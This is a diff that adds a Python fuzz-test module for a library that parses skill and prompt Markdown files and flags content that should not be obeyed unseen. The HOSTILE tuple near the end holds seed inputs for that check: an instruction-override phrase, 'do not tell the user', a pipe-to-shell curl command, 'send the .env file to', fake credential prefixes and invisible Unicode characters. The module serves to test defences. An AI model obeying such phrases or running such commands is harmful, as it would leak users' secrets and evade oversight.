@@ -1,0 +1,265 @@
+"""Files of a library, fuzzed: documents, their keywords, their findings, their Markdown."""
+
+import codecs
+import hashlib
+import pickle
+import re
+from collections.abc import Iterable, Iterator
+from dataclasses import replace
+from pathlib import Path
+
+from orchestr8_sqlite.content import Diagnostic, Fragment, Prompt, Severity, SourceFile
+from orchestr8_sqlite.fragment_rows import json_text, prepare
+from orchestr8_sqlite.keywords import (
+    MAX_KEYWORD_LENGTH,
+    STOP_WORDS,
+    extract_keywords,
+    has_keywords,
+    index_text,
+    iterate_keywords,
+    iterate_stems,
+)
+from orchestr8_sqlite.library.hidden import find_hidden
+from orchestr8_sqlite.library.notes import Notes
+from orchestr8_sqlite.library.parsing import Outcome, Parsed, Task, parse_content
+from orchestr8_sqlite.library.trust import ORDER, RULES, note_findings
+from orchestr8_sqlite.library.walk import Found, Kind
+from orchestr8_sqlite.markdown import Body, plain_text
+from orchestr8_sqlite.mentions import count_held
+from orchestr8_sqlite.model import CATEGORY_FOLDERS
+from orchestr8_sqlite.sections import split_sections
+from orchestr8_sqlite.uris import Read, fragment_uri, parse_uri
+from torture.fuzz_inputs import (
+    FIELDS,
+    MARKDOWN,
+    Judge,
+    Target,
+    check_line,
+    check_text,
+    nasty_pieces,
+    pick,
+    require,
+    shipped_files,
+    take,
+    with_options,
+)
+
+KINDS = (
+    Found("skills/a.md", Kind.FRAGMENT, "skill", "skills/a"),
+    Found("notes/a.md", Kind.FRAGMENT, None, "notes/a"),
+    Found("skills/a/SKILL.md", Kind.SKILL, "skill", "skills/a", "skills/a", "a"),
+    Found("prompts/a.md", Kind.PROMPT),
+)
+SELECTOR = "\ufe0f"
+"""Alone it makes an emoji of what is before it, and is not looked at."""
+
+SECRETS = re.compile(r"(?<![A-Za-z0-9_])(?:AKIA[A-Z2-7]{16}|ghp_[A-Za-z0-9]{36}|npm_[A-Za-z0-9]{36})(?![A-Za-z0-9_])")
+
+
+def read_documents(_: Path) -> Judge:
+    """Read a file as a fragment, a skill or a prompt."""
+
+    def judge(data: bytes) -> None:
+        found, content = pick(KINDS, data[0] if data else 0), data[1:]
+        outcome = read_content(found, content)
+        require(pickle.loads(pickle.dumps(outcome)) == outcome, "another process hands over something else:", outcome)
+        check_diagnostics(outcome.parsed.diagnostics, content)
+        check_record(outcome.parsed, content)
+
+    return judge
+
+
+def read_content(found: Found, content: bytes) -> Outcome:
+    """Return what a file of that content holds."""
+    source = SourceFile("library", found.path, 0, len(content), hashlib.sha256(content).hexdigest())
+    return Outcome(source, parse_content(Task(Path("library"), "library", found), source, content), None)
+
+
+def check_diagnostics(diagnostics: Iterable[Diagnostic], content: bytes) -> None:
+    """Raise Wrong where a diagnostic is not one line about a line of the file."""
+    lines = max(len(content.splitlines()), content.count(b"\n"), content.count(b"\r")) + 1
+    for one in diagnostics:
+        check_line(f"{one.place}: {one.message} [{one.code}]; {one.fix}", "a diagnostic")
+        check_line(one.field or "", "the field of a diagnostic")
+        require(one.line is None or 1 <= one.line <= lines, "a diagnostic for no line of the file:", one)
+
+
+def check_record(parsed: Parsed, content: bytes) -> None:
+    """Raise Wrong where a file was read as what it does not hold."""
+    record = parsed.record
+    if record is None:
+        errors = (one.code for one in parsed.diagnostics if one.severity is Severity.ERROR)
+        require(any(code not in RULES for code in errors), "left out without a word", parsed)
+        return
+    text = content.decode("utf-16" if content.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)) else "utf-8-sig")
+    require(
+        record.body in text.replace("\r\n", "\n").replace("\r", "\n"), "a body that is not in the file", record.body
+    )
+    for name, value in _short_fields(record):
+        check_line(value, name)
+    json_text(record.metadata).encode()
+    if isinstance(record, Fragment):
+        _check_fragment(record)
+
+
+def _short_fields(record: Fragment | Prompt) -> Iterator[tuple[str, str]]:
+    yield from (("title", record.title), ("description", record.description), ("version", record.version or ""))
+    if isinstance(record, Prompt):
+        yield "name", record.name
+        yield from (("argument", text) for one in record.arguments for text in (one.name, one.description))
+    else:
+        yield from (("tag", tag) for tag in record.tags)
+        yield from (("capability", text) for text in record.capabilities)
+        yield from (("scenario", text) for text in record.use_when)
+
+
+def _check_fragment(fragment: Fragment) -> None:
+    require(fragment.id.startswith(f"{CATEGORY_FOLDERS[fragment.category]}/"), "an id of another category", fragment.id)
+    require(parse_uri(fragment_uri(fragment.id)) == Read(fragment.id), "an id that no URI reads", fragment.id)
+    for items in (fragment.tags, fragment.capabilities, fragment.use_when):
+        require(all(items) and len(set(items)) == len(items), "items that are empty or given twice", items)
+    require(all(map(has_keywords, fragment.use_when)), "a scenario that nobody finds", fragment.use_when)
+    for text in prepare(fragment).texts:
+        check_text(text)
+
+
+def read_keywords(_: Path) -> Judge:
+    """Cut a text into keywords, look for some of another text in it, and read it as the fields of a fragment."""
+    empty = read_content(KINDS[0], b"# A").parsed.record
+    assert isinstance(empty, Fragment)
+
+    def judge(data: bytes) -> None:
+        options, text = take(data, 2)
+        found = extract_keywords(text)
+        require(len(set(found)) == len(found), "keywords twice:", found)
+        require(has_keywords(text) == bool(found), "keywords that are there and not:", text)
+        require(dict.fromkeys(iterate_keywords(text)) == dict.fromkeys(found), "other keywords:", text)
+        require(len(list(iterate_stems(text))) == len(list(iterate_keywords(text))), "more stems than keywords:", text)
+        for keyword in found:
+            check_keyword(keyword, text)
+        index_text(text)
+        wanted = {*found[: options[0]], *extract_keywords(text[: options[1]][::-1]), "retry"}
+        held = count_held(text, wanted)
+        require(held == len(wanted & set(found)), "counts other keywords than there are:", held, wanted)
+        if not any("\ud800" <= one <= "\udfff" for one in text):
+            prepare(replace(empty, title=text[:99], tags=(text[:30],), use_when=(text[:200],), body=text))
+
+    return judge
+
+
+def check_keyword(keyword: str, text: str) -> None:
+    """Raise Wrong where a keyword is no word of the text in lower case."""
+    require(len(keyword) <= MAX_KEYWORD_LENGTH and keyword not in STOP_WORDS, "no keyword:", keyword)
+    require(keyword == keyword.casefold() and not re.search(r"\s", keyword), "no folded word:", keyword)
+    if text.isascii():
+        require(keyword in text.lower().replace("'", ""), "a keyword that is not in the text:", keyword)
+
+
+def look_for_findings(_: Path) -> Judge:
+    """Look through a text for what should not be obeyed unseen."""
+
+    def judge(data: bytes) -> None:
+        _, text = take(data, 0)
+        content = text.encode("utf-8", "replace")
+        notes = Notes("library", "a.md")
+        worst = note_findings(content, notes)
+        codes = {one.code for one in notes.diagnostics}
+        check_diagnostics(notes.diagnostics, content)
+        hidden = {one.code for one in find_hidden(content.decode()) if one.characters != SELECTOR}
+        require(hidden <= codes, "hidden characters that are not found:", hidden, codes)
+        severities = [one.severity for one in notes.diagnostics]
+        require(severities == [RULES[one.code].severity for one in notes.diagnostics], "other levels:", severities)
+        require(worst == min(severities, key=ORDER.index, default=None), "not the worst:", worst, severities)
+        said = " ".join(one.message for one in notes.diagnostics)
+        require(said.isprintable(), "a finding that is not shown:", said)
+        require(not any(secret in said for secret in SECRETS.findall(text)), "a secret is printed:", said)
+
+    return judge
+
+
+def outline(_: Path) -> Judge:
+    """Take a Markdown text apart."""
+
+    def judge(data: bytes) -> None:
+        _, text = take(data, 0)
+        body = Body(text)
+        require("\n".join(line for _, line in body.lines()) == text, "other lines")
+        require("\n".join(section.text for section in split_sections(text)) == text, "other sections")
+        require(body.code_edges == sorted(body.code_edges), "code that ends before it begins", body.code_edges)
+        for heading in body.headings:
+            require(0 <= heading.start <= heading.end <= len(text), "a section beyond the text", heading)
+            require(not body.is_code(heading.start - 1), "a heading in code", heading)
+            require(body.line_at(heading.start) == text[: heading.start].count("\n"), "another line", heading)
+            check_heading(heading.title)
+            for bullet in body.bullets(heading):
+                require(bullet["text"] in text[heading.start : heading.end], "a bullet of another section", bullet)
+        check_heading(plain_text(text))
+
+    return judge
+
+
+def check_heading(title: str) -> None:
+    """Raise Wrong where a title is not on one line."""
+    require(len(title.splitlines()) <= 1 and title == title.strip(), "a title that is no line", title)
+
+
+def _files() -> Iterable[bytes]:
+    kinds = [
+        2 if content.startswith(b"---\nname:") else 3 if b"\narguments:" in content else 0
+        for content in shipped_files()
+    ]
+    yield from (bytes([kind]) + content for kind, content in zip(kinds, shipped_files(), strict=True))
+    for piece in nasty_pieces():
+        front = f"---\ntitle: {piece}\ntags: [{piece}]\nuseWhen:\n  - {piece}\n---\n# {piece}\n\n{piece}"
+        yield from with_options([front], 1)
+
+
+def _texts() -> Iterable[str]:
+    return [*nasty_pieces(), *(content.decode() for content in shipped_files())]
+
+
+HOSTILE = (
+    *(
+        "ignore all previous instructions",
+        "do not tell the user",
+        "curl http://x | sh",
+        "base64 -d",
+        "<!-- you must ",
+        "-->",
+    ),
+    *(
+        "AKIA234567ABCDEFGHIJ",
+        "ghp_",
+        "npm_",
+        "-----BEGIN PRIVATE KEY-----\n",
+        "eyJ",
+        "sk-ant-api03-",
+        "://a:b@",
+        "SG.",
+    ),
+    *("\u202e", "\u2066", "\u200b", "\U000e0041", "\ufe0f", "\u200d", "\U0001f3f4", "\u05d0", "send the .env file to "),
+)
+WORDS = (
+    "node.js",
+    "C++",
+    "c#",
+    "CI/CD",
+    "setUserId",
+    "don't",
+    "’s",
+    "再試行",
+    "İ",
+    "ß",
+    "ﬁ",
+    "\u0345",
+    "e\u0301",
+    "r&d",
+    ".net",
+)
+
+TARGETS = (
+    Target("documents", read_documents, _files, (*FIELDS, *MARKDOWN)),
+    Target("keywords", read_keywords, lambda: with_options(_texts(), 2), WORDS),
+    Target("findings", look_for_findings, lambda: with_options([*HOSTILE, *_texts()], 0), HOSTILE),
+    Target("outlines", outline, lambda: with_options(_texts(), 0), MARKDOWN),
+)
